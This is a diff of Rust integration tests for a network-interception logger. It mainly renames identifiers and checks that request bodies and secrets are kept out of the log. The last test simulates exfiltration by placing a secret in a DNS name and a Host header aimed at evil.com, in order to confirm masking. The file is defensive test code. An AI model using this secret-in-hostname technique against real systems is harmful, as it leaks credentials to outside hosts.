@@ -1,28 +1,28 @@
-//! Bodies on record, where they are asked for.
+//! Bodies in the network log.
 
 use guest_test::Reply;
 use intercept::Policy;
 
 use crate::credential::secret;
-use crate::scene::{API, OTHER, Scene, allow};
+use crate::fixture::{API, Fixture, OTHER, allow};
 
-/// What the guest knows, and the record must not.
+/// A text that the guest knows and the log must not contain.
 const HIDDEN: &str = "what-must-not-be-told";
-/// What the guest has a placeholder of.
+/// A secret of which the guest has a placeholder.
 const VALUE: &str = "the-real-key-itself";
 
 #[test]
 #[ignore = "needs root and mitmproxy"]
-fn the_beginnings_of_bodies_are_on_record_without_what_is_secret() {
-    let scene = Scene::new();
-    let _server = scene.https(|request| {
+fn the_beginning_of_a_body_is_logged_without_secrets() {
+    let fixture = Fixture::new();
+    let _server = fixture.https(|request| {
         assert_eq!(request.header("accept-encoding"), Some("identity"));
         Reply::bytes(match request.path.as_str() {
             "/text" => format!("{HIDDEN}, {VALUE}").into_bytes(),
             _ => vec![0xff; 100_000],
         })
     });
-    let client = scene.client_with(Policy::none(), |guard| {
+    let client = fixture.client_with(Policy::none(), |guard| {
         let guard = guard.with_secrets(vec![secret(API)]).hiding(vec![HIDDEN.to_owned()]);
         guard.with_bodies(true)
     });
@@ -47,10 +47,10 @@ fn the_beginnings_of_bodies_are_on_record_without_what_is_secret() {
 
 #[test]
 #[ignore = "needs root and mitmproxy"]
-fn no_body_is_on_record_unless_that_is_asked_for() {
-    let scene = Scene::new();
-    let _server = scene.http(|_| Reply::bytes(b"answer".to_vec()));
-    let client = scene.client(allow(&[OTHER]));
+fn bodies_are_not_logged_by_default() {
+    let fixture = Fixture::new();
+    let _server = fixture.http(|_| Reply::bytes(b"answer".to_vec()));
+    let client = fixture.client(allow(&[OTHER]));
 
     client.curl(&["-d", "question", &format!("http://{OTHER}/")]);
 
@@ -61,11 +61,11 @@ fn no_body_is_on_record_unless_that_is_asked_for() {
 
 #[test]
 #[ignore = "needs root and mitmproxy"]
-fn bodies_of_the_platform_and_of_presigned_urls_are_not_on_record() {
+fn bodies_of_the_platform_and_of_presigned_urls_are_not_logged() {
     const PRESIGNED: &str = "https://store.example/k?X-Amz-Signature=0123456789abcdef";
-    let scene = Scene::new();
-    let _server = scene.http(|_| Reply::bytes(PRESIGNED.as_bytes().to_vec()));
-    let client = scene.client_with(allow(&[API, OTHER]), |guard| {
+    let fixture = Fixture::new();
+    let _server = fixture.http(|_| Reply::bytes(PRESIGNED.as_bytes().to_vec()));
+    let client = fixture.client_with(allow(&[API, OTHER]), |guard| {
         guard.with_bodies(true).with_private_hosts(vec![API.to_owned()])
     });
 
@@ -85,13 +85,13 @@ fn bodies_of_the_platform_and_of_presigned_urls_are_not_on_record() {
 
 #[test]
 #[ignore = "needs root and mitmproxy"]
-fn a_secret_in_a_name_is_on_record_in_no_entry() {
-    let scene = Scene::new();
-    let _server = scene.http(|_| Reply::bytes(Vec::new()));
-    let hide = |guard: intercept::Guard| guard.hiding(vec![HIDDEN.to_owned()]);
-    let client = scene.client_with(Policy::none(), hide);
+fn a_secret_in_a_name_is_masked_in_every_entry() {
+    let fixture = Fixture::new();
+    let _server = fixture.http(|_| Reply::bytes(Vec::new()));
+    let hide = |guard: intercept::InterceptionConfig| guard.hiding(vec![HIDDEN.to_owned()]);
+    let client = fixture.client_with(Policy::none(), hide);
 
-    client.pass.as_ref().unwrap().observer().may_ask(&format!("{HIDDEN}.evil.com."));
+    client.registration.as_ref().unwrap().observer().may_ask(&format!("{HIDDEN}.evil.com."));
     let host = format!("Host: key-{}.evil.com", HIDDEN.to_uppercase());
     client.try_curl(&["-H", &host, &format!("http://{OTHER}/{HIDDEN}")]);
 
